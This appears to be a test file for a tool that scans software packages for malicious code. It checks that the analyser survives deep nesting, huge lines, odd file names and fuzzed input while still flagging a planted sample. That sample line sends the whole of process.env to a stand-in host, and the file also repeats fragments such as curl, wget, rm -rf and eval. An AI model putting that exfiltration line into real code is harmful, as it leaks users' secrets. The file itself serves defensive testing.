/** Code and packages made to break a reader: each ends with a report, and what could not be read is in it. */
import { Buffer } from "node:buffer";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { analyse } from "../../src/core/analysis/analyse.ts";
import { codeFacts } from "../../src/core/analysis/difference.ts";
import { CODE, HOST, IMPORT, STRINGS } from "../../src/core/analysis/patterns.ts";
import { withoutComments } from "../../src/core/analysis/scan-text.ts";
import { instant } from "../../src/core/base/time.ts";
import type { Facts } from "../../src/core/facts/facts.ts";
import { analysisIncomplete } from "../../src/core/signals/analysis-incomplete.ts";
import type { SignalInput } from "../../src/core/signals/check.ts";
import { pack } from "./archives.ts";

const PAYLOAD = 'fetch("https://c.test", { body: JSON.stringify(process.env) });';

test.each([
  ["parentheses", `${"(".repeat(50_000)}1${")".repeat(50_000)};`],
  ["arrays", `x = ${"[".repeat(50_000)}${"]".repeat(50_000)};`],
  ["functions", `${"function f(){".repeat(20_000)}${"}".repeat(20_000)}`],
  ["else if", `${"if (a) ; else ".repeat(30_000)};`],
  ["templates", `x = ${"`${".repeat(20_000)}1${"}`".repeat(20_000)};`],
])("nesting: %s, with a payload behind it", (_what, code) => {
  const report = analyse(pack({ "index.js": `${code}\n${PAYLOAD}` }));
  // Either a parser copes, or the file is said to be unread and is searched as text.
  expect(report.chains).toMatchObject([{ id: "secrets-out" }]);
  const facts = {
    code: codeFacts(report, undefined, { name: "sample", version: "1.0.0" }),
    firstSeen: instant(0),
    start: instant(0),
  } as Facts;
  const signal = analysisIncomplete({ facts } as SignalInput);
  if (report.unread.length > 0) {
    expect(report.unread).toMatchObject([{ path: "index.js", kind: "limit" }]);
    expect(signal?.effect).toEqual({ kind: "hold", until: 7 * 86_400_000 });
  } else expect(signal).toBeUndefined();
});

test("long chains, long lines and wide trees are read in the time their length asks for", () => {
  for (const code of [
    `x = ${'"a" + y + '.repeat(100_000)}1;`,
    `x = a${".b()".repeat(2_000)};`,
    `x = [${'"https://a.test/", '.repeat(100_000)}];`,
    `x = "${"a".repeat(5_000_000)}";`,
    `${"a=1;".repeat(300_000)}`,
    `a = "x"; ${Array.from({ length: 3_000 }, (_, n) => `const a${n + 1} = a${n} + a${n};`).join("")}`,
    `// ${"/*".repeat(500_000)}`,
  ])
    expect(analyse(pack({ "index.js": `${code}\n${PAYLOAD}` })).chains).toMatchObject([{ id: "secrets-out" }]);
});

test("no pattern and no scan takes more than the length of its text", () => {
  const pieces = [
    "curl ",
    "wget -o ",
    "powershell ",
    "fromCharCode(",
    "Buffer.from(",
    "stringify({",
    "/*",
    "\\",
    '"',
    "rm -rf ",
    "require(",
    "://",
    "\u200b",
    "[]!+(",
    "del /f ",
  ];
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(400_000 / piece.length));
    for (const { pattern } of [...STRINGS, ...CODE]) text.match(pattern);
    text.match(HOST);
    text.match(IMPORT);
    expect(withoutComments(text).length).toBe(text.length);
    analyse(pack({ "a.ts": text, "b.sh": text, "binding.gyp": text, "c.js": text }));
  }
  // vitest's own limit of 30 s a test is the assertion: anything quadratic here takes minutes.
});

test("many files, odd names, text that is none", () => {
  const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, n) => [`f/${n}.js`, `require("./${n + 1}.js")`]));
  const report = analyse(pack({ ...many, "index.js": 'require("./f/0.js")' }));
  expect(report.reach.entry).toHaveLength(5_001);
  const invalid = analyse(
    pack({ "index.js": Buffer.from([0x22, 0xff, 0xfe, 0x22, 0x3b]), "utf16.js": Buffer.from(`\ufeff${PAYLOAD}`, "utf16le") }),
  );
  expect(invalid.files).toHaveLength(3);
  expect(
    analyse(pack({ "__proto__.js": "1", "constructor.js": 'require("constructor"); valueOf("x"); __proto__("y");' })).capabilities,
  ).toEqual([]);
});

test("package.json that two readers would read differently is said", () => {
  const twice = analyse(pack({ "package.json": '{"name":"sample","version":"1.0.1","scripts":{},"scripts":{"install":"x"}}' }));
  expect(codeFacts(twice, undefined, { name: "sample", version: "1.0.1" }).mismatches).toEqual([
    expect.stringMatching(/"scripts" given twice/),
  ]);
  const none = analyse(pack({ "package.json": "{" }));
  expect(codeFacts(none, undefined, { name: "sample", version: "1.0.1" }).mismatches.length).toBeGreaterThan(0);
});

test("whatever is in a package there is a report, the same each time", () => {
  const piece = fc.constantFrom(
    "eval(",
    ")",
    "require('./a')",
    "`${",
    "}",
    "/*",
    "'",
    "process.env",
    "+",
    "\n",
    "atob(",
    "_0x1234",
    "import x from 'y';",
    "class A{#b}",
    "\u2028",
  );
  const source = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));
  fc.assert(
    fc.property(source, source, fc.json(), (a, b, manifest) => {
      const bytes = pack({ "package.json": manifest, "a.js": a, "b.ts": b, "binding.gyp": b });
      expect(analyse(bytes)).toEqual(analyse(bytes));
    }),
  );
});
